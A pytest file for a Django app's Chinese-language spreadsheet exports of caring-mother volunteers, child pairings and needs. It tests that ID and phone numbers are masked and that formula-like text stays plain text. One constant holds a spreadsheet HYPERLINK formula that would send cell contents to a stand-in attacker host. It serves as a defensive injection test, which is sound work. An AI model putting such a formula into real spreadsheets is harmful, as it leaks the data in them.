"""What the new exports (caring mothers, pairings, needs) hold: Chinese headers, ID numbers masked
(never the full number anywhere in the file), mobile numbers masked, and text a spreadsheet would read
as a formula written as text (core.xlsx). The ledger's and the activities' contents are tested beside
their writers (tests/children/test_export.py, tests/activities/test_export_text_cells.py)."""

from datetime import date

import pytest

from children import services as child_services
from pairing.export import COLUMNS as PAIRING_COLUMNS
from tests.exports.helpers import exported_sheet, records
from volunteers.export import COLUMNS as VOLUNTEER_COLUMNS

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"详情")'


def every_cell(sheet) -> list[str]:
    return [str(value) for row in sheet.iter_rows(values_only=True) for value in row if value is not None]


def cell_of(sheet, header: str):
    """The cell under ``header`` in the first data row."""
    headers = [cell.value for cell in sheet[1]]
    return sheet.cell(row=2, column=headers.index(header) + 1)


@pytest.fixture
def staff(client, staff_lishi):
    client.force_login(staff_lishi)
    return client


def test_the_caring_mothers_export_has_the_chinese_headers(staff, county_a_and_b):
    assert [c.value for c in exported_sheet(staff, "volunteers")[1]] == [h for h, _width in VOLUNTEER_COLUMNS]


def test_the_pairings_export_has_the_chinese_headers(staff, county_a_and_b):
    assert [c.value for c in exported_sheet(staff, "pairings")[1]] == [h for h, _width in PAIRING_COLUMNS]


def test_the_caring_mothers_mobile_numbers_are_masked(staff, county_a_and_b):
    (mother,) = records(exported_sheet(staff, "volunteers"))
    assert mother["手机号（脱敏）"] == "139****1111"


def test_the_caring_mothers_full_number_is_nowhere_in_the_file(staff, county_a_and_b):
    assert not any("13900001111" in cell for cell in every_cell(exported_sheet(staff, "volunteers")))


def test_the_pairings_id_numbers_are_masked(staff, county_a_and_b):
    (pairing,) = records(exported_sheet(staff, "pairings"))
    assert pairing["身份证号（脱敏）"] == "*" * 14 + county_a_and_b.a_number[-4:]


def test_the_pairings_mobile_numbers_are_masked(staff, county_a_and_b):
    (pairing,) = records(exported_sheet(staff, "pairings"))
    assert pairing["爱心妈妈手机号（脱敏）"] == "139****1111"


def test_the_needs_id_numbers_are_masked(staff, county_a_and_b):
    (need,) = records(exported_sheet(staff, "needs"))
    assert need["身份证号（脱敏）"] == "*" * 14 + county_a_and_b.a_number[-4:]


@pytest.mark.parametrize("kind", ["pairings", "needs"])
def test_the_full_id_number_is_nowhere_in_the_file(staff, county_a_and_b, kind):
    number = county_a_and_b.a_number
    assert not any(number in cell or number[:14] in cell for cell in every_cell(exported_sheet(staff, kind)))


def test_the_needs_columns_read_in_chinese(staff, county_a_and_b):
    (need,) = records(exported_sheet(staff, "needs"))
    assert (need["类型"], need["状态"], need["内容"], need["提出日期"].date()) == ("学习", "待认领", "甲课外书",
                                                                               date(2025, 4, 1))


def test_formula_like_notes_of_a_caring_mother_stay_text(staff, staff_lishi, make_volunteer, regions):
    make_volunteer(staff_lishi, name="丙", notes=FORMULA)
    cell = cell_of(exported_sheet(staff, "volunteers"), "备注")
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", FORMULA, True)


def test_a_formula_like_need_stays_text(staff, staff_lishi, child_lishi):
    child_services.need_create(actor=staff_lishi, child=child_lishi, kind="study", description="+1+1 书包",
                               opened_on=date(2025, 4, 1))
    cell = cell_of(exported_sheet(staff, "needs"), "内容")
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", "+1+1 书包", True)


def test_a_formula_like_child_name_in_a_pairing_stays_text(staff, staff_lishi, make_child, make_volunteer, pair):
    pair(make_child(staff_lishi, name="@SUM(1,1)"), make_volunteer(staff_lishi, name="-陈"))
    sheet = exported_sheet(staff, "pairings")
    assert [(c.data_type, c.value, c.quotePrefix) for c in (cell_of(sheet, "儿童"), cell_of(sheet, "爱心妈妈"))] == [
        ("s", "@SUM(1,1)", True), ("s", "-陈", True)]
